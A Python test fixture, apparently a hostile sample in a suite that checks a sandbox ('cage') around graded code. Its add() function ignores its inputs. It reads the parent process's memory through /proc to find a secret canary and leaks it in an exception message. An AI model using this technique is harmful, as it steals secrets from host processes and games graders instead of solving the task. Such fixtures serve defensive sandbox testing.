"""Reads the memory of its parent process.

attacks: test_sum
expected: failed
stopped-by: cage
weakest: lets through the canary, sometimes
"""

import os
import re

from honest_but_wrong import *


def text_of(path):
    try:
        with open(path, "rb") as file:
            return file.read(1_000_000).decode("latin-1")
    except OSError:
        return ""


def tell(found):
    raise RuntimeError(" ".join(sorted(set(re.findall("canary-[a-z-]+", found)))))


def add(a, b):
    found = ""
    with open(f"/proc/{os.getppid()}/maps") as maps, open(f"/proc/{os.getppid()}/mem", "rb", 0) as memory:
        for line in maps:
            first, last = (int(part, 16) for part in line.split()[0].split("-"))
            if "rw" in line and last - first < 64 << 20:
                try:
                    memory.seek(first)
                    data = memory.read(last - first)
                except (OSError, OverflowError):
                    continue
                if b"canary-in-the-env" in data:
                    found = data[data.index(b"canary-in-the-env") :][:200].decode("latin-1")
                    break
    tell(found)
